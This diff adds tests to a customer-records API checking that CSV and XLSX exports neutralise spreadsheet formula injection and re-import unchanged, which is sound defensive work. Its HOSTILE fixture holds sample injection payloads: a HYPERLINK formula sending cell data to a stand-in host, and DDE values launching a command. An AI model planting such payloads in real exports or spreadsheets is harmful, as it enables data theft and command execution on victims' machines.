@@ -180,3 +180,44 @@ def test_an_erased_customer_takes_no_changes_from_an_import(client, new_customer
     job = upload(client, b"external_id,notes\nDMS-9,again\n", mode="update", key="external_id")
     assert (job["updated"], job["failed"]) == (0, 1) and errors_of(client, job) == [(2, "external_id")]
     assert client.get(f"/api/v1/customers/{erased['id']}", headers=READER).get_json()["notes"] is None
+
+
+#: What a spreadsheet reads as a formula: text starting with one of these (OWASP, CSV injection).
+FORMULA_START = ("=", "+", "-", "@", "\t", "\r")
+HOSTILE = {"name": '=HYPERLINK("http://evil.example/?"&A1,"click")', "address": "@SUM(1+1)*cmd|' /C calc'!A0",
+           "employer": "-2+3+cmd|' /C calc'!A0", "notes": "+86 138 0013 8000, call after 6",
+           "job_title": "'=already quoted",
+           "tags": ["VIP", "=1+1"]}
+
+
+def test_a_csv_export_has_no_cell_a_spreadsheet_would_evaluate_and_imports_back_unchanged(client, new_customer):
+    customer = new_customer(phone="13800138000", **HOSTILE)
+    response = client.get("/api/v1/customers/export", headers=READER)
+    text = response.get_data().decode("utf-8-sig")
+    rows = list(csv.reader(io.StringIO(text)))
+    assert len(rows) == 2 and rows[1][0] == customer["id"]
+    assert [cell for row in rows for cell in row if cell.startswith(FORMULA_START)] == []
+    exported = dict(zip(rows[0], rows[1], strict=True))
+    assert exported["name"] == "'" + HOSTILE["name"] and exported["phone"] == "'+8613800138000"
+    # a spreadsheet set to semicolons splits no text cell: each is enclosed in double quotes
+    assert [cell for row in csv.reader(io.StringIO(text), delimiter=";") for cell in row
+            if cell.startswith(FORMULA_START)] == []
+    job = upload(client, text.encode("utf-8"), mode="upsert")
+    assert (job["unchanged"], job["updated"], job["failed"]) == (1, 0, 0)
+    again = client.get(f"/api/v1/customers/{customer['id']}", headers=READER).get_json()
+    assert again == customer and again["phone"] == "+8613800138000"
+
+
+def test_an_xlsx_export_writes_text_as_text_never_a_formula_and_imports_back_unchanged(client, new_customer):
+    customer = new_customer(phone="13800138000", **HOSTILE, external_id="#N/A")
+    body = client.get("/api/v1/customers/export?format=xlsx", headers=READER).get_data()
+    sheet = load_workbook(io.BytesIO(body)).worksheets[0]
+    cells = {header.value: cell for header, cell in zip(sheet[1], sheet[2], strict=True)}
+    # no "f" (formula), no "e" (error)
+    assert {cell.data_type for cell in cells.values() if cell.value is not None} <= {"s", "n", "b"}
+    assert cells["name"].value == HOSTILE["name"] and cells["external_id"].value == "#N/A"
+    assert cells["name"].quotePrefix and cells["phone"].quotePrefix  # stays text when someone edits it
+    assert cells["points_balance"].data_type == "n"
+    job = upload(client, body, filename="customers.xlsx", mode="upsert")
+    assert (job["unchanged"], job["updated"], job["failed"]) == (1, 0, 0)
+    assert client.get(f"/api/v1/customers/{customer['id']}", headers=READER).get_json() == customer
